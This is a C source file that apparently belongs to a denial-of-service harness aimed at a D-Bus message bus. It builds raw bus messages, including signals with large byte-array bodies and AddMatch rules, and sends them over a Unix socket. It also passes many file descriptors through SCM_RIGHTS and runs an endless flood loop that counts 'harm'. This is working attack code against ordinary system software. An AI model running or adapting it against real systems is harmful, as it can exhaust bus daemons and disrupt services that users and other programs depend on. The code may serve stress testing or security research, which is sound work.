/* SPDX-License-Identifier: MIT */
#include "client.h"

#include "hostile.h"
#include "process.h"

#include <fcntl.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#define MAX_FDS 16

static uint32_t serials = 100; /* of messages other than the calls of connection.h */

uint32_t put_message(struct buffer *out, const struct header *header, const struct buffer *body)
{
    static struct buffer written;
    struct header complete = *header;
    complete.body_size = body ? (uint32_t)body->size : 0;
    header_write(&written, &complete);
    write_u32(written.data + SERIAL_AT, ++serials);
    buffer_put(out, written.data, written.size);
    if (body)
        buffer_put(out, body->data, body->size);
    return serials;
}

uint32_t put_driver_call(struct buffer *out, const char *member, const char *signature,
                         const struct buffer *body)
{
    struct header header = {.type = CALL,
                            .path = BUS_PATH,
                            .interface = BUS,
                            .member = member,
                            .destination = BUS,
                            .signature = signature};
    return put_message(out, &header, body);
}

void body_ay(struct buffer *body, uint32_t size)
{
    body->size = 0;
    buffer_u32(body, size);
    buffer_need(body, size);
    memset(body->data + body->size, 'x', size);
    body->size += size;
}

void put_signal(struct buffer *out, const char *destination, uint32_t size)
{
    struct buffer body = {0};
    body_ay(&body, size);
    struct header header = {.type = SIGNAL,
                            .path = ATTACK_PATH,
                            .interface = ATTACK_INTERFACE,
                            .member = "Signal",
                            .destination = destination,
                            .signature = "ay"};
    put_message(out, &header, &body);
    free(body.data);
}

void put_add_match(struct buffer *out, const char *rule)
{
    struct buffer body = {0};
    buffer_string(&body, rule);
    struct header header = {.type = CALL,
                            .flags = NO_REPLY,
                            .path = BUS_PATH,
                            .interface = BUS,
                            .member = "AddMatch",
                            .destination = BUS,
                            .signature = "s"};
    put_message(out, &header, &body);
    free(body.data);
}

void put_repeated(struct buffer *out, size_t least)
{
    size_t once = out->size;
    buffer_need(out, least + once); /* the source of the copy must not move */
    while (out->size < least)
        buffer_put(out, out->data, once);
}

void attack_join(struct connection *c)
{
    hostile_connect(c, connection_open);
}

static bool pour(struct connection *c, const struct buffer *out, int n)
{
    union {
        struct cmsghdr header;
        char space[CMSG_SPACE(MAX_FDS * sizeof(int))];
    } control = {.header = {CMSG_LEN((size_t)n * sizeof(int)), SOL_SOCKET, SCM_RIGHTS}};
    static int null = -1;
    int fds[MAX_FDS];
    if (null < 0)
        null = open("/dev/null", O_RDONLY | O_CLOEXEC);
    for (int i = 0; i < n; i++)
        fds[i] = null;
    memcpy(CMSG_DATA(&control.header), fds, (size_t)n * sizeof(int));
    struct iovec iov = {out->data, out->size};
    struct msghdr header = {.msg_iov = &iov,
                            .msg_iovlen = 1,
                            .msg_control = n ? &control : NULL,
                            .msg_controllen = n ? CMSG_SPACE((size_t)n * sizeof(int)) : 0};
    return hostile_send(c, &header);
}

bool attack_try_pour(struct connection *c, const struct buffer *out)
{
    return pour(c, out, 0);
}

void attack_pour_fds(struct connection *c, const struct buffer *out, int n)
{
    if (!pour(c, out, n))
        hostile_reconnect(c, connection_open);
}

void attack_pour(struct connection *c, const struct buffer *out)
{
    attack_pour_fds(c, out, 0);
}

void attack_flood(struct connection *c, const struct buffer *out, int messages)
{
    for (;;) {
        attack_pour(c, out);
        atomic_fetch_add(&shared->harm, (uint64_t)messages);
    }
}

void attack_sync(struct connection *c)
{
    static struct buffer out;
    struct message m;
    out.size = 0;
    uint32_t serial = put_driver_call(&out, "GetId", NULL, NULL);
    connection_send(c, out.data, out.size);
    do
        connection_next(c, &m);
    while (m.reply_serial != serial || m.type == SIGNAL);
}
